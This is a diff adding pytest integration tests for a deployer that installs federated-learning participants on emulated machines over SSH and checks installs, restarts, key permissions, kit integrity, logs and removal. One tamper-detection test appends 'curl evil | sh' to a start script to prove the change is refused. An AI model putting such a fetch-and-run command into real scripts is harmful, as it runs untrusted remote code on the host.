@@ -1,0 +1,334 @@
+"""From a bare machine to a participant that is registered, on emulated machines with the real runtime."""
+
+from __future__ import annotations
+
+import shutil
+import socket
+import threading
+import time
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import dataclass, replace
+from datetime import datetime, timedelta, timezone
+from pathlib import Path
+
+import pytest
+import yaml
+
+from deployer import bundle as bundles
+from deployer.bootstrap import (
+    Installed,
+    check_facts,
+    install_participant,
+    runtime_log,
+    runtime_remove,
+    runtime_status,
+    runtime_stop,
+    verify_there,
+)
+from deployer.errors import KitError, MachineError, UnreachableError
+from deployer.facts import MachineFacts
+from deployer.keys import KeyStore
+from deployer.sandbox.machines.standalone import Machines, machines
+from deployer.sandbox.model import MachineSpec, Rule
+from deployer.service import KIT, OPT, STATE, Launch, Service
+from deployer.ssh import Machine, connect
+from deployer.wheels import own_wheel
+from startup_kits.passphrase import PassphraseSource
+from startup_kits.provision import ProvisionResult, provision
+from startup_kits.spec import load_spec
+from startup_kits.workspace import Workspace
+
+SPEC = """\
+version: 1
+name: digits
+server: {target: host, host: 127.0.0.1, user: fedspan, port: PORT}
+sites:
+  site-1: {target: host, host: 127.0.0.1, user: fedspan, data: {digits: /srv/data/digits}}
+  site-2: {target: host, host: 127.0.0.1, user: fedspan, data: {digits: /srv/data/digits}}
+admins:
+  ana@hospital-a.example: {role: lead}
+"""
+SSH_PORT = 2222
+
+
+@dataclass
+class World:
+    """A federation of two machines, both installed: `login(name)` opens a connection."""
+
+    provisioned: ProvisionResult
+    cache: Path
+    keys: KeyStore
+    addresses: dict[str, str]
+    port: int
+    first: dict[str, Installed]
+
+    @property
+    def endpoint(self) -> str:
+        return f"{self.addresses['server']}:{self.port}"
+
+    def login(self, name: str) -> Machine:
+        return connect(
+            self.addresses[name], SSH_PORT, "fedspan", self.keys.login_path, self.keys.known_hosts, 20, name=name
+        )
+
+    def install_alone(self, name: str) -> Installed:
+        with self.login(name) as machine:
+            return self.install(machine)
+
+    def install(self, machine: Machine, kit: Path | None = None, endpoint: str | None = None) -> Installed:
+        where = kit or self.provisioned.kits[machine.name]
+        labels = {"deployed-by": "lead", "target": "aws"}
+        return install_participant(machine, where, self.cache, endpoint or self.endpoint, labels)
+
+
+def boot(some: Machines, keys: KeyStore, name: str, port: int) -> str:
+    address, host = some.address(), keys.host(name)
+    config = {
+        "users": [{"name": "fedspan", "ssh_authorized_keys": [keys.login("digits").public]}],
+        "ssh_keys": {"ed25519_private": host.private, "ed25519_public": host.public},
+        "write_files": [{"path": "/etc/ssh/sshd_config.d/10-fedspan.conf", "content": f"Port {SSH_PORT}\n"}],
+    }
+    workstation = "198.51.100.10/32"
+    some.put(
+        MachineSpec(
+            id=f"i-{name}",
+            cloud="aws",
+            account="1",
+            region="eu",
+            zone=None,
+            size="t",
+            running=True,
+            user_data="#cloud-config\n" + yaml.safe_dump(config),
+            login_keys=(),
+            public_ip=address,
+            private_ip="10.0.0.4",
+            ingress=(Rule(SSH_PORT, SSH_PORT, "tcp", workstation), Rule(port, port, "tcp", "0.0.0.0/0")),
+            volumes=(),
+            tags={"fedspan:participant": name},
+        )
+    )
+    keys.pin(address, SSH_PORT, host.public)
+    return address
+
+
+@pytest.fixture(scope="module")
+def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
+    folder = tmp_path_factory.mktemp("digits")
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        port = sock.getsockname()[1]
+    (folder / "federation.yml").write_text(SPEC.replace("PORT", str(port)))
+    workspace = Workspace.find(folder / "federation.yml")
+    source = PassphraseSource(workspace.passphrase_path, environ={"FEDSPAN_PASSPHRASE": "only for this test"})
+    provisioned = provision(workspace, load_spec(folder / "federation.yml"), source)
+    keys = KeyStore(workspace.ssh_dir)
+    frozen, patch = own_wheel(), pytest.MonkeyPatch()
+    patch.setattr(bundles, "own_wheel", lambda: frozen)  # somebody may be editing fedspan while its tests run
+    patch.setattr(bundles, "_BUILT", {})
+    with machines() as some, patch.context():
+        addresses = {name: boot(some, keys, name, port) for name in ("server", "site-1")}
+        made = World(provisioned, folder / "cache", keys, addresses, port, {})
+        with ThreadPoolExecutor() as pool:  # as `up` does it
+            made.first.update(zip(addresses, pool.map(made.install_alone, addresses), strict=True))
+        yield made
+        for name in addresses:
+            with made.login(name) as machine:
+                runtime_stop(machine)
+
+
+@pytest.fixture
+def site(world: World) -> Iterator[Machine]:
+    with world.login("site-1") as machine:
+        yield machine
+
+
+def wait_for(condition: object, seconds: float = 20.0) -> None:
+    assert callable(condition)
+    deadline = time.monotonic() + seconds
+    while not condition():
+        assert time.monotonic() < deadline, "it did not happen"
+        time.sleep(0.1)
+
+
+def registered(server: Machine, name: str) -> bool:
+    status = runtime_status(server)
+    return status is not None and bool(status["sites"].get(name, {}).get("registered"))
+
+
+def test_a_bare_machine_becomes_a_registered_site(world: World) -> None:
+    assert world.first["site-1"].changed == ["bundle", "kit", "endpoint", "started"]
+    with world.login("server") as server:
+        wait_for(lambda: registered(server, "site-1"))
+        status = runtime_status(server)
+    assert status is not None
+    assert status["sites"]["site-1"]["labels"] == {"deployed-by": "lead", "target": "aws"}
+
+
+def test_the_same_again_changes_nothing(world: World, site: Machine) -> None:
+    before = runtime_status(site)
+    done = world.install(site)
+    after = runtime_status(site)
+    assert done.changed == []
+    assert done.sent_bytes == 0
+    assert before is not None
+    assert after is not None
+    assert before["pid"] == after["pid"]
+
+
+def test_another_address_is_written_and_needs_no_restart(world: World, site: Machine) -> None:
+    before = runtime_status(site)
+    assert world.install(site, endpoint="127.255.255.254:9").changed == ["endpoint"]
+    endpoint = yaml.safe_load(Path(site.path(KIT), "local/endpoint.yml").read_text())
+    assert endpoint["server"] == "127.255.255.254:9"
+    assert world.install(site).changed == ["endpoint"]
+    after = runtime_status(site)
+    assert before is not None
+    assert after is not None
+    assert before["pid"] == after["pid"]
+
+
+def test_another_kit_means_a_restart(world: World, site: Machine) -> None:
+    before = runtime_status(site)
+    policy = world.provisioned.kits["site-1"] / "local" / "policy.yml"
+    policy.write_text(policy.read_text() + "# changed\n")
+    assert world.install(site).changed == ["kit", "started"]
+    after = runtime_status(site)
+    assert before is not None
+    assert after is not None
+    assert before["pid"] != after["pid"]
+
+
+def test_a_runtime_that_was_stopped_is_started_again(world: World, site: Machine) -> None:
+    assert runtime_stop(site)
+    assert runtime_status(site) is None
+    assert not runtime_stop(site)
+    assert world.install(site).changed == ["started"]
+    assert runtime_status(site) is not None
+
+
+def test_the_private_key_is_for_its_owner_alone_there(site: Machine) -> None:
+    key = Path(site.path(KIT), "startup", "participant.key")
+    assert key.stat().st_mode & 0o777 == 0o600
+
+
+def test_a_kit_that_was_changed_here_never_leaves(world: World, site: Machine, tmp_path: Path) -> None:
+    kit = Path(shutil.copytree(world.provisioned.kits["site-1"], tmp_path / "site-1"))
+    (kit / "startup" / "participant.yml").write_text((kit / "startup/participant.yml").read_text() + "# x\n")
+    with pytest.raises(KitError, match=r"participant\.yml"):
+        world.install(site, kit)
+    assert "# x" not in Path(site.path(KIT), "startup", "participant.yml").read_text()
+
+
+def test_the_machine_itself_refuses_a_changed_kit_and_another_ca(world: World, site: Machine) -> None:
+    service = Service(site)
+    venv = f"{site.path(OPT)}/venv"
+    fingerprint = world.provisioned.ca_fingerprint
+    launch = Launch("b", "k", venv, "x", fingerprint, {}, None)
+    verify_there(service, launch)
+    with pytest.raises(KitError, match="of another CA"):
+        verify_there(service, replace(launch, ca_fingerprint=":".join(["AB"] * 32)))
+    script = Path(site.path(KIT), "start.sh")
+    before = script.read_text()
+    script.write_text(before + "curl evil | sh\n")
+    with pytest.raises(KitError) as caught:
+        verify_there(service, launch)
+    assert "the machine refuses its kit" in str(caught.value)
+    assert "start.sh" in str(caught.value)
+    assert "kit" in world.install(site).changed  # the next push mends it
+    assert script.read_text() == before
+
+
+def test_a_kit_of_another_ca_is_refused_before_anything_is_sent(world: World, site: Machine) -> None:
+    with pytest.raises(KitError, match="of another CA"):
+        install_participant(
+            site, world.provisioned.kits["site-1"], world.cache, None, {}, ca_fingerprint=":".join(["AB"] * 32)
+        )
+
+
+def test_an_installation_that_was_interrupted_is_done_again(world: World, site: Machine) -> None:
+    venv = Path(site.path(OPT), "venv").resolve()
+    (venv / ".fedspan-installed").unlink()
+    shutil.rmtree(venv / "lib")
+    done = world.install(site)
+    assert "bundle" in done.changed
+    assert done.sent_bytes == 0  # the wheels were still there
+    assert runtime_status(site) is not None
+    assert [path.name for path in venv.parent.glob("venv-*")] == [venv.name]
+
+
+def test_the_log_can_be_cut_dated_and_followed(world: World, site: Machine) -> None:
+    runtime_stop(site)
+    marker = datetime.now(timezone.utc)
+    time.sleep(1.1)
+    world.install(site)
+    whole = runtime_log(site, tail=1000).splitlines()
+    assert runtime_log(site, tail=2).splitlines() == whole[-2:]
+    recent = runtime_log(site, since=marker).splitlines()
+    assert 0 < len(recent) < len(whole)
+    assert runtime_log(site, since=marker + timedelta(hours=1)) == ""
+    seen: list[str] = []
+    with world.login("site-1") as other:
+
+        def follow() -> None:
+            with pytest.raises(UnreachableError):  # the connection is closed under it: that is how it ends
+                runtime_log(other, lambda _, line: seen.append(line), tail=1, follow=True)
+
+        following = threading.Thread(target=follow, daemon=True)
+        following.start()
+        wait_for(lambda: len(seen) >= 1)
+        log = Path(site.path(STATE), "runtime.log")
+        with log.open("a") as file:
+            file.write("a new line\n")
+        wait_for(lambda: "a new line" in seen)
+    following.join(10)
+
+
+FACTS = MachineFacts(
+    root="",
+    bind=None,
+    python="/usr/bin/python3",
+    version=(3, 12, 3),
+    implementation="cpython",
+    arch="x86_64",
+    glibc=(2, 39),
+    has_venv=True,
+    systemd=True,
+    user="fedspan",
+    home="/home/fedspan",
+    uid=1000,
+    writable=False,
+    sudo=True,
+    cloud_init=False,
+    disk_free=50 << 30,
+    cpus=2,
+    hostname="vm",
+)
+
+
+@pytest.mark.parametrize(
+    ("change", "words"),
+    [
+        ({"implementation": "pypy"}, "pypy"),
+        ({"has_venv": False}, "python3-venv"),
+        ({"sudo": False}, "may not write /opt/fedspan"),
+        ({"disk_free": 100 << 20}, "100 MB of free disk"),
+    ],
+)
+def test_what_a_machine_lacks_is_said_before_anything_is_sent(change: dict[str, object], words: str) -> None:
+    check_facts(FACTS, "site-1")
+    with pytest.raises(MachineError) as caught:
+        check_facts(replace(FACTS, **change), "site-1")  # type: ignore[arg-type]  # one field of each type
+    assert words in str(caught.value)
+    assert caught.value.participant == "site-1"
+    assert caught.value.next_step
+
+
+# Last: the server is gone afterwards.
+def test_removing_leaves_nothing_of_ours(world: World) -> None:
+    with world.login("server") as server:
+        runtime_remove(server)
+        assert runtime_status(server) is None
+        assert not Path(server.path(OPT)).exists()
+        assert not Path(server.path(STATE)).exists()
+        runtime_remove(server)  # and once more is fine
